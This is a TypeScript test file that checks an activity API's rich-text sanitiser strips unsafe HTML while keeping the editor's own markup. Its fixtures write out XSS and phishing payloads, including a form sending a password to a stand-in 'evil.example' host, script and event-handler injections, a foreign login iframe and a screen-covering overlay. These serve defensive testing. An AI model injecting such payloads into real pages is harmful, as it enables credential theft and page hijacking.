import { beforeEach, describe, expect, it } from 'vitest';
import type { activityRoutes } from '../../../server/areas/activity/routes';
import { answer, api } from '../helpers/api';
import { login } from '../helpers/client';

// Stored rich text (an activity's content, docs/api.md "Activities and registrations") keeps what
// the console's editor makes and nothing that could restyle or imitate the pages showing it:
// no style sheets, forms, inputs, scripts, event handlers, foreign frames or positioning.

const fields = {
  nameZh: '富文本活动',
  introZh: '简介',
  beginTime: '2030-05-01 19:00:00',
  endTime: '2030-05-01 21:00:00',
  cover: '/csp/system/oss/file/5/cover.png',
};

let token = '';
beforeEach(async () => {
  token = await login('admin');
});

/** The activity calls, as the admin in `lang`; the public website's read, without a session. */
const activities = (lang: 'zh' | 'en' = 'zh') => api<typeof activityRoutes>({ token, lang }).admin.activity;
const create = (json: object, lang: 'zh' | 'en' = 'zh') => answer(activities(lang).$post({ json }));
const shownOnSite = (activityId: number) =>
  answer(
    api<typeof activityRoutes>().activity.public[':activityId'].$get({ param: { activityId: String(activityId) } }),
  );

async function saved(content: string): Promise<string> {
  const reply = await create({ ...fields, content });
  expect(reply.code).toBe(200);
  const read = await answer(activities()[':activityId'].$get({ param: { activityId: String(reply.data.activityId) } }));
  expect(read.data.content).toBe(reply.data.content);
  return reply.data.content;
}

describe('stored rich text', () => {
  it('drops style sheets, forms and inputs, keeping the text around them', async () => {
    const content = await saved(
      '<style>body{background:red!important}</style><p>欢迎</p>' +
        '<form action="https://evil.example/steal"><input type="password" name="pw"><button>登录</button>' +
        '<select><option>a</option></select><textarea>t</textarea></form><p>结束</p>',
    );
    expect(content).not.toMatch(/<style|<form|<input|<button|<select|<textarea|background:red/i);
    expect(content).toContain('<p>欢迎</p>');
    expect(content).toContain('<p>结束</p>');
  });

  it('drops scripts, event handlers, javascript: links and foreign frames', async () => {
    const content = await saved(
      '<p onclick="steal()">a<script>alert(1)</script></p><img src="x" onerror="alert(1)">' +
        '<a href="javascript:alert(1)">j</a><iframe src="https://evil.example/login"></iframe>' +
        '<object data="x.swf"></object><embed src="x.swf"><link rel="stylesheet" href="https://evil.example/x.css">' +
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    );
    expect(content).not.toMatch(/onclick|onerror|<script|javascript:|<iframe|<object|<embed|<link|<meta|evil/i);
    expect(content).toContain('<p>a</p>');
  });

  it('drops positioning styles, keeping the editor’s colours', async () => {
    const content = await saved(
      '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;color:rgb(230, 0, 0)">覆盖</p>' +
        '<p><span style="background-color: rgb(255, 255, 0);">高亮</span></p>',
    );
    expect(content).not.toMatch(/position|z-index|top:|width|height/i);
    expect(content).toContain('color:rgb(230, 0, 0)');
    expect(content).toContain('background-color:rgb(255, 255, 0)');
  });

  it('keeps what the rich-text editor makes', async () => {
    const editor =
      '<h1>标题</h1><h3 class="ql-align-center">小标题</h3>' +
      '<p class="ql-align-right"><strong>粗</strong><em>斜</em><u>下划线</u><s>删除</s></p>' +
      '<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false"></span>一</li>' +
      '<li data-list="ordered" class="ql-indent-1">二</li></ol><blockquote>引用</blockquote>' +
      '<p><span class="ql-size-large">大</span></p>' +
      '<p><a href="https://example.org/a" rel="noopener noreferrer" target="_blank">链接</a> ' +
      '<a href="mailto:info@example.org">信</a></p>' +
      '<p><img src="/csp/system/oss/file/12/photo.png"><img src="https://example.org/p.jpg"></p>' +
      '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://player.bilibili.com/player.html?bvid=BV1"></iframe>';
    const content = await saved(editor);
    for (const part of [
      '<h1>标题</h1>',
      '<h3 class="ql-align-center">小标题</h3>',
      '<strong>粗</strong><em>斜</em><u>下划线</u><s>删除</s>',
      '<li data-list="bullet">',
      '<li data-list="ordered" class="ql-indent-1">二</li>',
      '<blockquote>引用</blockquote>',
      '<span class="ql-size-large">大</span>',
      'href="https://example.org/a"',
      'href="mailto:info@example.org"',
      // kept, and signed for the caller in the answer (docs/security.md "Files")
      'src="/csp/system/oss/file/12/photo.png?e=',
      'src="https://example.org/p.jpg"',
      'src="https://player.bilibili.com/player.html?bvid=BV1"',
    ]) {
      expect(content).toContain(part);
    }
  });

  it('refuses links and images to other schemes and other paths of the server', async () => {
    const content = await saved(
      '<p>x<a href="data:text/html,hi">d</a><a href="/csp/system/user/list">u</a>' +
        '<img src="data:image/png;base64,AAAA"><img src="/csp/admin/activity/list"></p>',
    );
    expect(content).not.toMatch(/data:|\/csp\/system\/user|\/csp\/admin/);
  });

  it('counts content that is only removed markup as empty', async () => {
    const reply = await create({ ...fields, content: '<style>p{}</style><form><input></form>' }, 'en');
    expect(reply).toMatchObject({ code: 500, msg: 'Content is required' });
  });

  it('applies on an edit, and the public website answers the clean text', async () => {
    const created = await create({ ...fields, content: '<p>初稿</p>' });
    const { activityId } = created.data;
    const edited = await answer(
      activities().$put({
        json: { ...fields, activityId, content: '<p>改</p><style>*{color:red}</style><input type="password">' },
      }),
    );
    expect(edited.code).toBe(200);
    await activities().publish.$put({ json: { activityId, published: true } });
    const shown = await shownOnSite(activityId);
    expect(shown.data.content).toBe('<p>改</p>');
  });
});
